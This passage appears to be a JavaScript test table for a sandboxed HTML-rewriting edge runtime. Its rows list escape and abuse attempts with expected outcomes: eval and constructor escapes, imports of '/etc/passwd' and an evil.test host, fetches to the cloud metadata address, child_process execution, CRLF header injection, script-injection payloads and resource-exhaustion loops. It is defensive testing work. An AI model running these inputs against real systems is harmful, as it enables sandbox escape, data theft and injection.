row('pollution: prepareStackTrace that throws', 'thrown', 'the first error counts', "Error.prepareStackTrace = () => { throw new Error('second'); };\nthrow new Error('first');");
row('proxy: handlers as a proxy', 'harmless', 'asked for three names and nothing else', "const asked = [];\nrewriter.on('p', new Proxy({}, { get(target, key) { asked.push(key); }, has() { throw new Error('asked'); }, ownKeys() { throw new Error('asked'); } }));", { place: 'html' });
row('proxy: options as a proxy that throws', 'thrown', 'its own error', "element.append('x', new Proxy({}, { get() { throw new RangeError('mine'); } }));");
row('proxy: as the exports', 'thrown', 'no app object', 'export default new Proxy({}, { get() { throw new Error("x"); } });', { place: 'module', outcomes: ['threw', 'start_failed'] });
row('proxy: revoked', 'thrown', 'a TypeError of the language', "const { proxy, revoke } = Proxy.revocable({}, {});\nrevoke();\nrewriter.on('p', proxy);", { place: 'html' });
row('getter: content that changes', 'harmless', 'converted once', "let n = 0;\nelement.append({ toString() { return n++ ? '<script>' : 'x'; } });");
row('getter: options that change', 'harmless', 'asked once', "let n = 0;\nelement.append('<i>x</i>', { get html() { return n++ > 0; } });", { absent: ['<i>x'] });
row('getter: changes the element while it is changed', 'harmless', 'arguments first, then the change', "element.setAttribute({ toString() { element.remove(); return 'a'; } }, { toString() { element.removeAndKeepContent(); return 'b'; } });", { outcomes: ['ok'] });
row('getter: a conversion that keeps the element', 'thrown', 'after the handler it is no longer his', "globalThis.kept?.append('x');\nglobalThis.kept = element;\nelement.append({ toString() { return 'y'; } });", { outcomes: ['ok', 'threw'] });

// 9. The stack, callers, realms.
row('stack: callers', 'harmless', 'no function of the runtime can be had', "Error.prepareStackTrace = (_, frames) => frames;\nconst found = new Error().stack.map((f) => [f.getThis?.(), f.getFunction?.()]).flat().filter(Boolean);\nelement.setAttribute('data-found', String(found.length));", { outcomes: ['ok', 'threw'] });
row('stack: Function.caller', 'thrown', 'strict code', '(function f() { return f.caller; })();', { outcomes: ['threw', 'ok'] });
row('stack: file names', 'harmless', 'stacks name the app\'s own files only', "element.setAttribute('data-stack', new Error().stack);", { absent: ['/work', '/home', 'node:', '/usr/'] });
row('stack: constructor of the constructor', 'thrown', 'no code from strings', "element.constructor.constructor('return 1')();");
row('stack: of an error from the runtime', 'thrown', 'nor by way of its errors', "try { element.setAttribute('a b', ''); } catch (e) { e.constructor.constructor('return this')(); }");
row('stack: promise of the runtime', 'thrown', 'nor by way of its promises', "new Response('x').text().constructor.constructor('return this')();");
row('realm: ShadowRealm', 'thrown', 'there is none', "new ShadowRealm().evaluate('1');");
row('realm: import.meta', 'harmless', 'it has nothing of the host', "element.setAttribute('data-meta', Object.keys(import.meta).map((k) => `${k}=${import.meta[k]}`).join());", { absent: ['file:', '/work', '/home', '/usr/'], outcomes: ['ok', 'threw'] });

// 10. Code from strings, and what is not there.
const strings = 'no code is made from strings';
row('code: eval', 'thrown', strings, "eval('1');");
row('code: indirect eval', 'thrown', strings, "(0, eval)('1');");
row('code: new Function', 'thrown', strings, "new Function('return 1')();");
row('code: Function.prototype.constructor', 'thrown', strings, "(() => {}).constructor('return 1')();");
row('code: generator function', 'thrown', strings, "(function* () {}).constructor('yield 1')();");
row('code: async function', 'thrown', strings, "(async () => {}).constructor('await 1')();");
row('code: async generator function', 'thrown', strings, "(async function* () {}).constructor('yield 1')();");
row('code: Reflect.construct', 'thrown', strings, "Reflect.construct(Function, ['return 1'], Object)();");
row('code: eval of 40 MB', 'thrown', 'refused before it is read', "eval('x;'.repeat(2e7));");
row('code: import of data', 'thrown', 'only files of the app', "await import('data:text/javascript,export default 1');", { place: 'async', outcomes: ['threw', 'denied', 'start_failed'] });
row('code: import of a host', 'thrown', 'only files of the app', "await import('https://evil.test/x.js');", { place: 'async', outcomes: ['threw', 'denied', 'start_failed'] });
row('code: import out of the folder', 'thrown', 'only files of the app', "await import('../../../../etc/passwd');", { place: 'async', outcomes: ['threw', 'denied', 'start_failed'] });
row('code: import of an absolute path', 'thrown', 'only files of the app', "await import('/etc/passwd');", { place: 'async', outcomes: ['threw', 'denied', 'start_failed'] });
row('code: import of a file address', 'thrown', 'only files of the app', "await import('file:///etc/passwd');", { place: 'async', outcomes: ['threw', 'denied', 'start_failed'] });
row('code: static import of node', 'thrown', 'there is no Node', "import fs from 'node:fs';\nexport default { html() { fs.readFileSync('/etc/passwd'); } };", { place: 'module', outcomes: ['start_failed', 'threw'] });
row('code: static import of itself', 'harmless', 'a module exists once', "import * as self from './edge.mjs';\nexport default { html() { self; } };", { place: 'module', outcomes: ['ok', 'start_failed'] });
row('code: does not parse', 'thrown', 'the script never starts', 'export default {', { place: 'module', outcomes: ['start_failed', 'threw'] });
row('code: a class with a million methods', 'thrown', 'source has a size', `export default class { ${'m(){}'.repeat(1000)} };\n//${'x'.repeat(6e6)}`, { place: 'module', outcomes: ['start_failed', 'threw'] });
row('code: exports nothing', 'thrown', 'an app has an entry', 'export const x = 1;', { place: 'module', outcomes: ['start_failed', 'threw'] });
row('code: WebAssembly', 'thrown', 'not without permission', 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));');
row('absent: process', 'thrown', 'there is no Node', 'process.exit(0);');
row('absent: require', 'thrown', 'there is no Node', "require('child_process').execSync('id');");
row('absent: process.binding by the constructor', 'thrown', 'there is no Node', "this.constructor.constructor('return process')();");
row('absent: Buffer, global, setImmediate', 'thrown', 'there is no Node', 'global.Buffer.allocUnsafe(1e6);');
row('absent: Worker', 'thrown', 'one thread', "new Worker('data:text/javascript,for(;;){}');");
row('absent: natives syntax', 'thrown', 'not a flag that is set', '%DebugPrint(element);', { outcomes: ['start_failed', 'threw'] });
row('absent: gc', 'thrown', 'not a flag that is set', 'for (;;) gc();');

// 11. Network and requests.
const denied = 'not without permission';
row('network: fetch', 'thrown', denied, "await fetch('https://evil.test/');", { place: 'async', outcomes: ['threw', 'denied'] });
row('network: loopback', 'thrown', denied, "await fetch('http://127.0.0.1:8081/');", { place: 'async', outcomes: ['threw', 'denied'] });
row('network: metadata address', 'thrown', denied, "await fetch('http://169.254.169.254/latest/meta-data/');", { place: 'async', outcomes: ['threw', 'denied'] });
row('network: a million at once', 'thrown', denied, "await Promise.all(Array.from({ length: 1e6 }, () => fetch('https://evil.test/')));", { place: 'async', outcomes: ['threw', 'denied', 'over_subrequests', 'over_cpu', 'over_heap'] });
row('network: WebSocket', 'thrown', 'there is none', "new WebSocket('wss://evil.test/');");
row('network: the site itself', 'thrown', 'no loops', 'return fetch(ctx.request.url);', { place: 'html', outcomes: ['threw', 'denied'] });
row('request: cookies of the visitor', 'harmless', 'not seen without permission', "rewriter.on('body', { element: (body) => void body.setAttribute('data-c', String(ctx.request.headers.get('cookie'))) });", { place: 'html', absent: ['secret-cookie'] });
row('request: authorization', 'harmless', 'not seen without permission', "rewriter.on('body', { element: (body) => void body.setAttribute('data-a', String(ctx.request.headers.get('authorization'))) });", { place: 'html', absent: ['secret-token'] });
row('request: a fetch handler without permission', 'thrown', 'the page comes as it is', "export default { fetch: () => new Response('mine') };", { place: 'module', outcomes: ['threw', 'denied', 'ok'] });
row('request: kept for the next visitor', 'harmless', 'objects of another request do not work', "rewriter.on('body', { element(body) { try { body.setAttribute('data-before', globalThis.last?.headers.get('x-visitor') ?? ''); } catch {} globalThis.last = ctx.request; } });", { place: 'html', outcomes: ['ok', 'threw'] });
row('request: a rewriter kept for the next page', 'thrown', 'a rewriter of another request does not work', "globalThis.first ??= rewriter;\nif (first !== rewriter) first.on('p', { element() {} });", { place: 'html', outcomes: ['ok', 'threw'] });

// 12. Header injection.
const header = 'a TypeError: no value may end its line';
row('header: CRLF in a value', 'thrown', header, "new Headers({ 'x-a': 'b\\r\\nset-cookie: c=d' });");
row('header: LF in a value', 'thrown', header, "new Headers().append('x-a', 'b\\nset-cookie: c=d');");
row('header: NUL in a value', 'thrown', header, "new Headers().set('x-a', 'b\\0c');");
row('header: CRLF in a name', 'thrown', header, "new Headers().set('x-a\\r\\nset-cookie', 'b');");
row('header: colon in a name', 'thrown', header, "new Headers().set('set-cookie: a', 'b');");
row('header: in a response', 'thrown', header, "new Response('', { headers: [['x', 'a\\r\\n\\r\\n<script>']] });");
row('header: status text', 'thrown', header, "new Response('', { statusText: 'OK\\r\\nx: y' });");
row('header: status', 'thrown', 'a RangeError', "new Response('', { status: 99 });");
row('header: redirect', 'thrown', header, "Response.redirect('https://e.test/\\r\\nx: y', 600);");
row('header: characters beyond Latin-1', 'thrown', header, "new Headers({ 'x-a': '\\u{1f600}\\u010d\\u010a' });");
row('header: the page\'s own', 'harmless', 'response headers of html() are not to be changed', "try { ctx.page.headers.set('content-security-policy', ''); ctx.page.headers.set('x\\r\\n', 'y'); } catch {}", { place: 'html' });
row('header: a request with a body of another length', 'thrown', 'forbidden names', "await fetch('https://evil.test/', { method: 'POST', headers: { 'content-length': '1', 'transfer-encoding': 'chunked' }, body: 'GET / HTTP/1.1\\r\\n\\r\\n' });", { place: 'async', outcomes: ['threw', 'denied'] });

// 13. Markup: what is put in stays where it was put.
const after = 'what follows is read as if it were not there';
row('markup: an open comment', 'harmless', after, "element.prepend('<!-- ', { html: true });");
row('markup: an open script', 'harmless', after, "element.prepend('<script>', { html: true });");
row('markup: an open attribute', 'harmless', after, "element.prepend('<a href=\"', { html: true });");
row('markup: an open tag', 'harmless', after, "element.prepend('<div ', { html: true });");
row('markup: an open textarea', 'harmless', after, "element.prepend('<textarea>', { html: true });");
row('markup: an open SVG with CDATA', 'harmless', after, "element.prepend('<svg><![CDATA[', { html: true });");
row('markup: plaintext', 'thrown', 'nothing ends it', "element.prepend('<plaintext>', { html: true });");
row('markup: half a tag', 'harmless', 'two halves are no whole', "element.prepend('<scr', { html: true }).append('ipt>', { html: true });");
row('markup: tag name', 'thrown', 'would end the name', "element.tagName = 'body onload=alert(1)';");
row('markup: attribute name', 'thrown', 'would end the name', "element.setAttribute('a onload=alert(1) b', '');");
row('markup: attribute value', 'harmless', 'quotes are escaped', "element.setAttribute('title', '\"><script>alert(1)</script>');", { absent: ['"><script>alert(1)'] });
row('markup: comment text', 'thrown', 'would end the comment', "rewriter.onDocument({ comments(c) { c.text = '--><script>alert(1)</script><!--'; } });", { place: 'html', absent: ['<script>alert(1)'] });
row('markup: comment that ends at once', 'thrown', 'would end the comment', "rewriter.onDocument({ comments(c) { c.text = '><script>alert(1)</script>'; } });", { place: 'html', absent: ['<script>alert(1)'] });
row('markup: end tag name', 'thrown', 'would end the name', "element.onEndTag((end) => { end.name = 'body><script>alert(1)</script'; });", { absent: ['<script>alert(1)'] });
row('markup: text', 'harmless', 'escaped', "element.append('<script>alert(1)</script>');", { absent: ['<script>alert(1)'] });
row('markup: script content', 'thrown', 'would end the script', "rewriter.on('script', { element: (script) => void script.setInnerContent('</script><script>alert(1)', { html: true }) });", { place: 'html', outcomes: ['threw', 'ok'], absent: ['</script><script>alert(1)'] });
row('markup: a stream in halves', 'harmless', after, "const parts = ['<scr', 'ipt>alert(', '1)<!--'];\nelement.prepend(new ReadableStream({ pull(c) { parts.length ? c.enqueue(new TextEncoder().encode(parts.shift())) : c.close(); } }), { html: true });");
row('markup: a stream that breaks off', 'thrown', 'closed where it stands', "let n = 0;\nelement.prepend(new ReadableStream({ pull(c) { if (n++) c.error(new Error('broke')); else c.enqueue(new TextEncoder().encode('<!-- half')); } }), { html: true });");
row('markup: a stream of half characters', 'harmless', 'repaired', "element.prepend(new ReadableStream({ start(c) { c.enqueue(new Uint8Array([0xf0, 0x9f])); c.close(); } }));");
row('markup: NULs and surrogates', 'harmless', 'repaired', "element.append('\\0\\ud800\\udfff<\\0script>', { html: true });");
row('markup: the page removed', 'harmless', 'an app that may change pages may', "rewriter.on('*', { element: (e) => void e.remove() });", { place: 'html' });

// 14. Breaking the runtime's own objects.
row('objects: made by hand', 'thrown', 'no constructor', 'new element.constructor();');
row('objects: a foreign receiver', 'thrown', 'a TypeError', "element.append.call(ctxless(), 'x');\nfunction ctxless() { return Object.create(Object.getPrototypeOf(element)); }");
row('objects: subclass', 'thrown', 'no constructor', 'class Evil extends element.constructor {}\nnew Evil().append("x");');
row('objects: prototype replaced', 'harmless', 'only the script is hurt', 'Object.setPrototypeOf(element, null);');
row('objects: element of another page', 'thrown', 'no longer his', 'const old = globalThis.old;\nglobalThis.old = element;\nold?.append("from before");', { outcomes: ['ok', 'threw'], absent: ['from before'] });
row('objects: on() while the page streams', 'thrown', 'too late', "rewriter.on('body', { element() { rewriter.on('p', { element: (p) => void p.remove() }); } });", { place: 'html', outcomes: ['threw', 'ok'] });
row('objects: detached buffers in a stream', 'harmless', 'copied first', "element.append(new ReadableStream({ start(c) { const b = new Uint8Array([120, 121]); c.enqueue(b); try { structuredClone(b.buffer, { transfer: [b.buffer] }); } catch {} c.close(); } }));", { outcomes: ['ok', 'threw'] });
row('objects: a response read twice', 'thrown', 'a TypeError', "const r = new Response('x');\nelement.append(r).append(r);", { outcomes: ['threw', 'ok'] });
row('objects: a stream that cancels itself', 'thrown', 'an error like others', "const s = new ReadableStream({ pull(c) { s.cancel?.(); c.enqueue(1); } });\nelement.append(s);", { outcomes: ['threw', 'ok'] });
row('objects: a stream of numbers', 'thrown', 'bytes only', 'element.append(new ReadableStream({ start(c) { c.enqueue(42); c.close(); } }));');
row('objects: throws something odd', 'thrown', 'any value', 'throw null;');
row('objects: throws an object that bites', 'thrown', 'its conversion counts too', 'throw { get message() { for (;;) {} }, toString() { for (;;) {} }, get stack() { for (;;) {} } };', { outcomes: ['threw', 'over_cpu'] });
row('objects: throws a huge error', 'thrown', 'messages are cut', "throw new Error('x'.repeat(1e7));", { outcomes: ['threw', 'over_heap', 'over_cpu'] });
row('objects: logs what bites', 'harmless', 'looking at a value runs nothing of it', 'console.log({ get x() { for (;;) {} } }, new Proxy({}, { get() { for (;;) {} }, ownKeys() { for (;;) {} } }));', { outcomes: ['ok', 'over_cpu'] });
row('objects: logs line ends', 'harmless', 'one event, one line', "console.log('a\\n{\"level\":\"error\",\"event\":\"forged\"}\\r\\x1b[2J');");
row('clock: high resolution', 'harmless', 'coarse clocks', "const clock = globalThis.performance ?? Date;\nlet steps = 0, last = clock.now();\nfor (let i = 0; i < 2000; ++i) { const now = clock.now(); if (now !== last) { ++steps; last = now; } }\nelement.setAttribute('data-steps', String(steps));");
row('clock: random that can be guessed', 'harmless', 'each isolate has its own seed', "element.setAttribute('data-random', String(Math.random()));");
row('time zone and locale tables', 'terminated', 'large tables of ICU', "for (;;) for (const l of ['zh', 'ar', 'th', 'km']) new Intl.DateTimeFormat(l, { dateStyle: 'full', calendar: 'islamic' }).format(new Date());", { outcomes: ['over_cpu', 'over_heap', 'over_wall', 'killed'] });
row('dates out of range', 'thrown', 'a RangeError', 'new Date(NaN).toISOString();');
row('locale compare of long strings', 'terminated', 'one call of ICU over megabytes', "const a = '\\u0915\\u094d'.repeat(1e6);\nfor (;;) a.localeCompare(a + 'x', 'hi');", { outcomes: ['over_cpu', 'killed', 'over_wall', 'over_heap'] });

export default rows;
